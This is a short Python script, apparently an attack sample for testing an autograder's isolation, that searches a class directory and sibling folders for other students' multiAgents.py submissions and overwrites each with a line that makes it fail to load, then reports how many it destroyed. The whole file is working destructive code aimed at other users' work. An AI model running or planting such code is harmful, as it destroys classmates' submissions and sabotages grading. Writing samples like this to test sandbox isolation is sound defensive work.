# Overwrite every classmate's file with one that fails to load.
import glob
import os

_done = 0
for _path in glob.glob("@CLASS@/*/multiAgents.py") + glob.glob(
        os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "*",
                     "multiAgents.py")):
    if "overwrites_classmates" in _path or os.path.abspath(_path) == os.path.abspath(__file__):
        continue
    try:
        with open(_path, "w") as _out:
            _out.write("raise SystemExit('overwritten')\n")
        _done += 1
    except OSError:
        pass
print(f"ATTACK overwrites_classmates: overwrote {_done} files")
